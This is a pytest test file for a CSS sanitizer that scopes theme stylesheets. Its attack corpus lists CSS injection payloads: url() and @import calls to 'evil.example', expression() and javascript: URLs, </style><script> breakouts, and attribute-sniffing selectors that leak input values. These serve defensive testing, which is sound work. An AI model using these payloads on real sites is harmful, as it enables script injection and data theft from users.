"""The custom CSS sanitizer: a corpus of injection attempts, generated stylesheets, and the
stylesheet generated from a theme's tokens."""

from __future__ import annotations

import pytest
import tinycss2
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from subgraphs.themes import css

SCOPE = "vetrai-org-abc"
ASSETS = "/assets/themes"

ATTACKS = {
    "closing the rule": (".btn { color: red } } body { color: red }", "CSS_NOT_ALLOWED"),
    "expression()": (".a { width: expression(alert(1)) }", "CSS_NOT_ALLOWED"),
    "url() to another host": (
        ".a { background: url(https://evil.example/x.png) }",
        "CSS_NOT_ALLOWED",
    ),
    "quoted url() callback": (
        '.a { background-image: url("//evil.example/?c=1") }',
        "CSS_NOT_ALLOWED",
    ),
    "escaped url": (r".a { background: u\72l(https://evil.example/) }", "CSS_NOT_ALLOWED"),
    "escaped expression": (r".a { width: e\78pression(alert(1)) }", "CSS_NOT_ALLOWED"),
    "javascript: url": ('.a { background: url("javascript:alert(1)") }', "CSS_NOT_ALLOWED"),
    "url escaping the asset folder": (
        ".a { background: url(/assets/themes/../../graphql) }",
        "CSS_NOT_ALLOWED",
    ),
    "@import": ('@import url("https://evil.example/x.css");', "CSS_NOT_ALLOWED"),
    "@font-face": (
        "@font-face { font-family: x; src: url(https://evil.example/f) }",
        "CSS_NOT_ALLOWED",
    ),
    "@namespace": ("@namespace svg url(http://www.w3.org/2000/svg);", "CSS_NOT_ALLOWED"),
    "@media wrapping a rule": ("@media all { body { color: red } }", "CSS_NOT_ALLOWED"),
    "</style> breaking out": (
        ".a { color: red } </style><script>alert(1)</script>",
        "CSS_NOT_ALLOWED",
    ),
    "</ in a string": ('.a[title="</style>"] { color: red }', "CSS_NOT_ALLOWED"),
    "escaped </ in a string": (r'.a[title="\3c/style>"] { color: red }', "CSS_NOT_ALLOWED"),
    "behavior": (".a { behavior: url(x.htc) }", "CSS_NOT_ALLOWED"),
    "-moz-binding": (".a { -moz-binding: url(x.xml#xss) }", "CSS_NOT_ALLOWED"),
    "declaration in a custom property": (
        ".a { --x: ; background: url(https://evil.example) }",
        "CSS_NOT_ALLOWED",
    ),
    "custom property": (".a { --vetrai-color-primary: red }", "CSS_NOT_ALLOWED"),
    "a property off the list": (".a { position: fixed }", "CSS_NOT_ALLOWED"),
    "nested rule": (".a { color: red; .b { color: blue } }", "CSS_NOT_ALLOWED"),
    ":has() selector": (".a:has(input[value^=a]) { color: red }", "CSS_NOT_ALLOWED"),
    "attribute sniffing with a background": (
        'input[value^="a"] { background: url(https://evil.example/a) }',
        "CSS_NOT_ALLOWED",
    ),
    "unclosed block": (".a { color: red", "CSS_INVALID"),
    "unclosed comment": (".a { color: red } /* b { color: blue }", "CSS_INVALID"),
    "unclosed function": (".a { width: calc(1px + 2px }", "CSS_INVALID"),
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_injection_attempts_are_reported_and_kept_out_of_the_output(name: str) -> None:
    source, code = ATTACKS[name]
    result = css.sanitize(source, SCOPE, ASSETS)
    assert code in {p.code for p in result.problems}, result.problems
    lowered = result.css.lower()
    for forbidden in ("evil.example", "expression", "javascript", "</", "@import", "binding"):
        assert forbidden not in lowered


def test_every_selector_of_a_comma_list_gets_the_scope() -> None:
    result = css.sanitize("h1, .btn:hover, #x > a { color: red }", SCOPE, ASSETS)
    assert result.problems == []
    assert result.css == f".{SCOPE} h1, .{SCOPE} .btn:hover, .{SCOPE} #x > a {{ color: red }}"


def test_an_asset_url_of_the_platform_is_kept() -> None:
    source = ".logo { background-image: url(/assets/themes/files/a/b.png) }"
    assert css.sanitize(source, SCOPE, ASSETS).css.endswith("url(/assets/themes/files/a/b.png) }")


def test_problems_give_line_and_column() -> None:
    result = css.sanitize(".a {\n  color: red;\n  position: fixed;\n}", SCOPE, ASSETS)
    assert [(p.line, p.column) for p in result.problems] == [(3, 3)]
    assert result.problems[0].text.startswith("line 3, column 3:")


def test_an_unclosed_block_is_reported_where_its_rule_starts() -> None:
    result = css.sanitize(".a { color: red }\n.b { color: blue", SCOPE, ASSETS)
    assert [(p.code, p.line, p.column) for p in result.problems] == [("CSS_INVALID", 2, 1)]


def test_a_comment_left_open_over_everything_is_reported_where_it_opens() -> None:
    result = css.sanitize("\n  /* .a { color: red }", SCOPE, ASSETS)
    assert [(p.code, p.line, p.column) for p in result.problems] == [("CSS_INVALID", 2, 3)]
    assert result.css == ""


def test_more_than_20_kb_is_too_large() -> None:
    source = ".a { color: red }\n" * 1200
    result = css.sanitize(source, SCOPE, ASSETS)
    assert [p.code for p in result.problems] == ["CSS_TOO_LARGE"]
    assert result.css == ""


def test_more_than_500_rules_is_too_large() -> None:
    result = css.sanitize("a{color:red}" * 501, SCOPE, ASSETS)
    assert [p.code for p in result.problems] == ["CSS_TOO_LARGE"]
    assert result.problems[0].column == 500 * len("a{color:red}") + 1


def _allowed_everywhere(output: str) -> None:
    """``output`` parses as plain scoped rules of allowed properties only."""
    again = css.sanitize(output, SCOPE, ASSETS)
    assert again.problems == [], (output, again.problems)
    for rule in tinycss2.parse_stylesheet(output, skip_whitespace=True, skip_comments=True):
        assert rule.type == "qualified-rule"
        for selector in tinycss2.serialize(rule.prelude).split(","):
            assert selector.strip().startswith(f".{SCOPE} ")


PIECES = [*"abc.#:;{}()[]\"'\\/*,<>!@-_ =~+\n", "url(", "color", "</", "@import", "\\3c/"]
CSS_TEXT = st.lists(st.sampled_from(PIECES), max_size=80).map("".join)
DECLARATION = st.tuples(
    st.sampled_from(["color", "background", "position", "--x", "behavior", "width"]),
    st.sampled_from(
        ["red", "url(x)", "expression(1)", "calc(1px + 2px)", "var(--a)", "\\72 ed", "}"]
    ),
)
RULE = st.tuples(
    st.lists(
        st.sampled_from(["a", ".b", "#c", "d:hover", "e > f", "[g=h]", "i:has(j)", ""]),
        min_size=1,
        max_size=3,
    ),
    st.lists(DECLARATION, max_size=4),
).map(lambda r: f"{', '.join(r[0])} {{ {'; '.join(f'{n}: {v}' for n, v in r[1])} }}")


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(st.one_of(CSS_TEXT, st.lists(RULE, max_size=6).map("\n".join)))
def test_generated_css_never_raises_and_its_output_passes_the_allow_list(source: str) -> None:
    result = css.sanitize(source, SCOPE, ASSETS)
    _allowed_everywhere(result.css)


def test_the_stylesheet_has_light_on_root_and_dark_under_the_preference_and_the_attribute() -> None:
    sheet = css.stylesheet({"color-primary": "#111111"}, {"color-primary": "#eeeeee"}, "system", "")
    assert sheet.startswith(":root { --vetrai-color-primary: #111111 }")
    assert "@media (prefers-color-scheme: dark)" in sheet
    assert '[data-theme="dark"] { --vetrai-color-primary: #eeeeee }' in sheet
    fixed = css.stylesheet({"color-primary": "#111111"}, {"color-primary": "#eeeeee"}, "light", "")
    assert "prefers-color-scheme" not in fixed
